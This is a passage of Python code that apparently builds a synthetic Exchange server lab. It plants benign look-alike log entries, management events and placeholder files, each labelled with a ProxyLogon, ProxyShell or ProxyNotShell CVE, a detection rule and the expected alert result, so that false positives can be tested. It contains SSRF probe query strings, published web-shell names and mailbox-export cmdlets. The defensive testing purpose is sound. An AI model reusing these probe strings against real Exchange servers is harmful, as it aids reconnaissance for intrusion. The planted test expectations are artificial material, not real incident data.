                "proxylogon",
                "CVE-2021-26855",
                "proxylogon.ssrf_probe",
                t,
                match="ServerInfo~localhost/ecp/default.flt?",
                expect="review",
                note="nmap probe footprint",
            )
        ],
        "proxylogon",
        "lookalike",
    )
    fe = iis_text(
        s,
        "443",
        t,
        rnd,
        **_iis_kw(
            cs_method="GET",
            cs_uri_stem="/owa/auth/x.js",
            cs_uri_query="&CorrelationID=<empty>;&cafeReqId=" + _guid(rnd) + ";&encoding=;",
            cs_username="",
            c_ip=nmap_ip,
            cs_ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            sc_status="500",
            time_taken="31",
        ),
    )
    add_line(
        plan,
        iis_file("1", t),
        t,
        fe,
        [
            item(
                "lookalike",
                "proxylogon",
                "CVE-2021-26855",
                "proxylogon.iis_static_post",
                t,
                match="GET /owa/auth/x.js",
                expect="none",
                note="GET answered 500: the nmap probe",
            )
        ],
        "proxylogon",
        "lookalike",
    )

    # 2. zgrab fetching the exporttool manifest (log_formats.md 2.6 item 3).
    t = at(0.23)
    zg = "192.0.2.44"
    px = proxy_text(
        s,
        "Ecp",
        t,
        rnd,
        UrlStem="/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
        Method="GET",
        HttpStatus="200",
        BackEndStatus="200",
        AuthenticationType="FBA",
        IsAuthenticated="false",
        UserAgent="Mozilla/5.0 zgrab/0.x",
        ClientIpAddress=zg,
        AnchorMailbox="ServerVersion~Version 15.0 (Build 0.0)",
        RoutingType="IntraForest",
        RoutingHint="EDiscoveryExportTool-ServerVersion",
        ResponseBytes="10112",
        GenericInfo=traffic.generic_info(anonymous=True),
    )
    add_line(
        plan,
        proxy_file("Ecp", t),
        t,
        px,
        [
            item(
                "lookalike",
                "proxylogon",
                "CVE-2021-26855",
                "proxylogon.ssrf_progressed",
                t,
                match="exporttool",
                expect="none",
                note="version fingerprinting by a scanner",
            )
        ],
        "proxylogon",
        "lookalike",
    )
    fe = iis_text(
        s,
        "443",
        t,
        rnd,
        **_iis_kw(
            cs_method="GET",
            cs_uri_stem="/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
            cs_uri_query="&CorrelationID=<empty>;&cafeReqId=" + _guid(rnd) + ";",
            cs_username="",
            c_ip=zg,
            cs_ua="Mozilla/5.0 zgrab/0.x",
            sc_status="200",
            time_taken="15",
        ),
    )
    add_line(
        plan,
        iis_file("1", t),
        t,
        fe,
        [
            item(
                "lookalike",
                "proxylogon",
                "CVE-2021-26855",
                "proxylogon.iis_static_post",
                t,
                match="exporttool",
                expect="none",
            )
        ],
        "proxylogon",
        "lookalike",
    )

    # 3. Nessus ProxyShell checks (detections.md PS-1 false positives).
    t = at(0.31)
    ns = "192.0.2.91"
    for k, (stem, query, status) in enumerate(
        (
            (
                "/autodiscover/autodiscover.json",
                "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com",
                "302",
            ),
            (
                "/owa/",
                "&Email=autodiscover/autodiscover.json%3F@test.com&ClientId="
                + f"{rnd.getrandbits(128):032X}"
                + "&CorrelationID=<empty>;&cafeReqId="
                + _guid(rnd)
                + ";&encoding=;",
                "302",
            ),
        )
    ):
        tk = t + timedelta(seconds=k)
        fe = iis_text(
            s,
            "443",
            tk,
            rnd,
            **_iis_kw(
                cs_method="GET",
                cs_uri_stem=stem,
                cs_uri_query=query,
                cs_username="",
                c_ip=ns,
                cs_ua="Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
                sc_status=status,
                time_taken="9",
            ),
        )
        add_line(
            plan,
            iis_file("1", tk),
            tk,
            fe,
            [
                item(
                    "lookalike",
                    "proxyshell",
                    "CVE-2021-34473",
                    "proxyshell.autodiscover_success",
                    tk,
                    match="Email=autodiscover/autodiscover.json%3F@test.com",
                    expect="none",
                    note="Nessus probe",
                ),
            ],
            "proxyshell",
            "lookalike",
        )

    # 4. Antivirus and backup archives under ProgramData (detections.md PE-2).
    t = at(0.05)
    for rel in (
        "ProgramData/McAfee/Agent/data/Catalog_update.zip",
        "ProgramData/AppRecovery/Logs/AppRecovery_logs.zip",
    ):
        data = small_zip({rel.rsplit("/", 1)[1].replace(".zip", ".xml"): b"<catalog/>\r\n"}, t)
        plan.files.append(
            FilePlant(
                rel,
                data,
                t,
                [
                    item(
                        "lookalike",
                        "proxylogon",
                        None,
                        "postexploit.programdata_archive",
                        t,
                        expect="review",
                        note="antivirus/backup archive",
                    )
                ],
            )
        )

    # 5. A legitimate Set-OabVirtualDirectory (ECP log and management event).
    t = at(0.42)
    admin = traffic.users(plan.seed, s.domain)[0]
    ident = f"{s.host}\\OAB (Default Web Site)"
    cmd = ecp_cmd(
        "Set-OabVirtualDirectory",
        [("ExternalUrl", ps_quote(f"https://{s.url_host}/OAB")), ("Identity", ps_quote(ident))],
    )
    text = traffic.ecp_text(
        plan.server,
        t,
        rnd,
        cmd,
        "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary="
        + f"{rnd.getrandbits(160):040x}"
        + "&schema=OABVirtualDirectory",
        admin.sid,
    )
    add_line(
        plan,
        ecp_file(t),
        t,
        text,
        [
            item(
                "lookalike",
                "proxylogon",
                "CVE-2021-27065",
                "proxylogon.ecp_set_vdir_script",
                t,
                match="Set-OabVirtualDirectory.ExternalUrl=''https://",
                expect="none",
            ),
            item(
                "lookalike",
                "proxylogon",
                "CVE-2021-27065",
                "proxylogon.ecp_externalurl_change",
                t,
                match="Set-OabVirtualDirectory.ExternalUrl=''https://",
                expect="review",
            ),
        ],
        "proxylogon",
        "lookalike",
    )
    te = t + timedelta(milliseconds=350)
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                te,
                "Set-OabVirtualDirectory",
                f'-Identity "{ident}" -ExternalUrl "https://{s.url_host}/OAB"',
                "exadmin",
                admin.sid,
            ),
            [
                item(
                    "lookalike",
                    "proxylogon",
                    "CVE-2021-27065",
                    "proxylogon.oabvdir_cmdlet",
                    te,
                    match="-ExternalUrl",
                    expect="none",
                )
            ],
        )
    )

    # 6. OAB downloads that failed into the right temp folder (detections.md PL-5).
    t = at(0.52)
    path = WIN_INSTALL + f"ClientAccess\\OAB\\Temp\\{_guid(rnd)}\\oab-data-{rnd.randint(100, 200)}.lzx"
    add_line(
        plan,
        oabgen_file(t),
        t,
        traffic.oabgen_text(
            t, rnd, f"Download failed and temporary file '{path}' needs to be removed", level="Warning"
        ),
        [
            item(
                "lookalike",
                "proxylogon",
                "CVE-2021-26858",
                "proxylogon.oab_file_write",
                t,
                match="ClientAccess\\OAB\\Temp",
                expect="none",
            )
        ],
        "proxylogon",
        "lookalike",
    )

    # 7. An admin's mailbox export to a file share, and the role it needs (detections.md PS-3).
    t = at(0.61)
    u = traffic.users(plan.seed, s.domain)[7]
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                t,
                "New-ManagementRoleAssignment",
                '-Name "PST export helpdesk" -Role "Mailbox Import Export" -User "exadmin"',
                "exadmin",
                admin.sid,
            ),
            [
                item(
                    "lookalike",
                    "proxyshell",
                    "CVE-2021-31207",
                    "proxyshell.export_role_assignment",
                    t,
                    match="Mailbox Import Export",
                    expect="review",
                )
            ],
        )
    )
    t2 = t + timedelta(minutes=4)
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                t2,
                "New-MailboxExportRequest",
                f'-Mailbox "{u.upn}" -FilePath "\\\\FS01\\PSTExport$\\{u.sam}.pst"',
                "exadmin",
                admin.sid,
            ),
            [
                item(
                    "lookalike",
                    "proxyshell",
                    "CVE-2021-31207",
                    "proxyshell.mailbox_export",
                    t2,
                    match=f"{u.sam}.pst",
                    expect="review",
                    note="UNC .pst export: what the cmdlet is for",
                )
            ],
        )
    )

    # 11. An admin's maintenance script loading the Exchange snap-in (detections.md PE-6 context).
    t = at(0.64)
    plan.events.append(
        EventPlant(
            EVT_POWERSHELL,
            script_block(
                plan,
                t,
                "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\r\n"
                "Get-MailboxDatabase | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending | Select-Object -First 20",
                path="C:\\Scripts\\Report-MailboxSizes.ps1",
            ),
            [
                item(
                    "lookalike",
                    "proxylogon",
                    None,
                    "postexploit.exchange_snapin",
                    t,
                    match="Add-PSSnapin",
                    expect="review",
                    note="admin report script",
                )
            ],
        )
    )

    # 10. Others probing for web shells planted by someone else, answered 302 (log_formats.md 2.6 item 5).
    t = at(0.83)
    prober = "192.0.2.201"
    for k, name in enumerate(("OutlookEN.aspx", "errorFS.aspx", "getpp.aspx", "Err0r.aspx")):
        tk = t + timedelta(seconds=2 * k)
        for folder, line in (
            (
                "1",
                iis_text(
                    s,
                    "443",
                    tk,
                    rnd,
                    **_iis_kw(
                        cs_method="GET",
                        cs_uri_stem=f"/owa/auth/{name}",
                        cs_uri_query="&CorrelationID=<empty>;&cafeReqId=" + _guid(rnd) + ";&encoding=;",
                        cs_username="",
                        c_ip=prober,
                        cs_ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36",
                        sc_status="302",
                        time_taken="12",
                    ),
                ),
            ),
            (
                "proxy",
                proxy_text(
                    s,
                    "Owa",
                    tk,
                    rnd,
                    UrlStem=f"/owa/auth/{name}",
                    Method="GET",
                    HttpStatus="302",
                    BackEndStatus="302",
                    AuthenticationType="",
                    IsAuthenticated="false",
                    UserAgent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36",
                    ClientIpAddress=prober,
                    GenericInfo=traffic.generic_info(anonymous=True),
                ),
            ),
        ):
            file = iis_file("1", tk) if folder == "1" else proxy_file("Owa", tk)
            add_line(
                plan,
                file,
                tk,
                line,
                [
                    item(
                        "lookalike",
                        "proxylogon",
                        None,
                        "webshell.access",
                        tk,
                        match=f"/owa/auth/{name}",
                        expect="none",
                        note="probe for a shell that is not there",
                    )
                ],
                "proxylogon",
                "lookalike",
            )

    # 9. Routine children of Exchange worker processes (detections.md PE-3, PL-4 exclusions): the ASP.NET
    # compiler under w3wp, and Windows Error Reporting under UMWorkerProcess.
    t = at(0.33)
    csc = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe"
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_process(
                plan,
                t,
                csc,
                f'"{csc}" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\0c1b7ba9\\d7a8b2f0\\oqyyf3uz.cmdline"',
                W3WP,
                w3wp_cmdline("MSExchangeOWAAppPool"),
            ),
            [
                item(
                    "lookalike",
                    "proxylogon",
                    None,
                    "postexploit.worker_child_process",
                    t,
                    match="csc.exe",
                    expect="none",
                    note="ASP.NET compiling a page",
                )
            ],
        )
    )
    t = at(0.47)
    um = WIN_INSTALL + "Bin\\UMWorkerProcess.exe"
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_process(
                plan,
                t,
                "C:\\Windows\\System32\\WerFault.exe",
                "C:\\Windows\\system32\\WerFault.exe -u -p 7248 -s 1040",
                um,
                f'"{um}" -pipe 7248 -log 0',
            ),
            [
                item(
                    "lookalike",
                    "proxylogon",
                    "CVE-2021-26857",
                    "proxylogon.um_child_process",
                    t,
                    match="WerFault.exe",
                    expect="none",
                ),
                item(
                    "lookalike",
                    "proxylogon",
                    None,
                    "postexploit.worker_child_process",
                    t,
                    match="WerFault.exe",
                    expect="none",
                ),
            ],
        )
    )

    # 8. Legitimate remote PowerShell reaching the back end (detections.md PN-2 false positives).
    t = at(0.72)
    be = iis_text(
        s,
        "444",
        t,
        rnd,
        **_iis_kw(
            cs_method="POST",
            cs_uri_stem="/powershell",
            cs_uri_query=f"serializationLevel=Full;ExchClientVer={s.version_short};clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.14393.3866",
            cs_username=f"{s.netbios}\\exadmin",
            c_ip=s.address,
            cs_ua="Microsoft WinRM Client",
            sc_status="200",
            time_taken="2312",
        ),
    )
    add_line(
        plan,
        iis_file("2", t),
        t,
        be,
        [
            item(
                "lookalike",
                "proxynotshell",
                "CVE-2022-41080",
                "proxynotshell.owassrf_backend",
                t,
                match="Microsoft+WinRM+Client",
                expect="none",
            )
        ],
        "proxynotshell",
        "lookalike",
    )


def standard_web_files(plan: Plan) -> None:
    """Files of a standard install in the web folders (placeholders, no code), some of them look-alikes."""
    s = plan.server
    t = plan.start - timedelta(days=40)
    page = b'<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\r\n<!-- exwatch lab placeholder for a file of a standard install -->\r\n'
    for name in (
        "logon.aspx",
        "logoff.aspx",
        "errorFE.aspx",
        "expiredpassword.aspx",
        "frowny.aspx",
        "signout.aspx",
    ):
        plan.files.append(FilePlant(f"{OWA_AUTH}/{name}", page, t, []))
    plan.files.append(FilePlant(APPHOST_CONFIG, application_host_config(s), t, []))
    plan.files.append(
        FilePlant(
            f"{OWA_AUTH}/Current/themes/resources/logon.css", b"/* exwatch lab placeholder */\r\n", t, []
        )
    )
    plan.files.append(
        FilePlant(
            f"{OWA_AUTH}/{s.version_short}/themes/resources/logon.css",
            b"/* exwatch lab placeholder */\r\n",
            t,
            [],
        )
    )
    plan.files.append(
        FilePlant(
            f"{OAB_FE}/web.config", b'<?xml version="1.0" encoding="utf-8"?>\r\n<configuration/>\r\n', t, []
        )
    )
    plan.files.append(FilePlant(f"{ASPNET_CLIENT}/system_web/4_0_30319/.placeholder", b"", t, []))
    plan.files.append(
        FilePlant("ProgramData/Microsoft/Windows/Start Menu/desktop.ini", b"[.ShellClassInfo]\r\n", t, [])
    )


def standard_lookalike_files(plan: Plan) -> None:
    """Standard files whose names resemble published web-shell names."""
    t = plan.start - timedelta(days=40)
    page = b'<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.RedirSuiteServiceProxy" %>\r\n<!-- exwatch lab placeholder for a file of a standard install -->\r\n'
    plan.files.append(
        FilePlant(
            f"{OWA_AUTH}/RedirSuiteServiceProxy.aspx",
            page,
            t,
            [
                item(
                    "lookalike",
                    "proxylogon",
                    None,
                    "webshell.known_path",
                    t,
                    expect="none",
                    note="standard file; the shell was RedirSuiteServerProxy.aspx",
                ),
                item("lookalike", "proxylogon", None, "webshell.unexpected_script", t, expect="none"),
            ],
        )
    )
    plan.files.append(
        FilePlant(
            f"{ECP_AUTH}/TimeoutLogoff.aspx",
            b'<%@ Page Language="C#" AutoEventWireup="true" %>\r\n<!-- exwatch lab placeholder for a file of a standard install -->\r\n',
            t,
            [
                item(
                    "lookalike",
                    "proxylogon",
                    None,
                    "webshell.unexpected_script",
                    t,
                    expect="none",
                    note="the one standard file in ecp\\auth",
                )
            ],
        )
    )


def ensure_utc(t: datetime) -> datetime:
    if t.tzinfo is None:
        return t.replace(tzinfo=UTC)
    return t.astimezone(UTC)
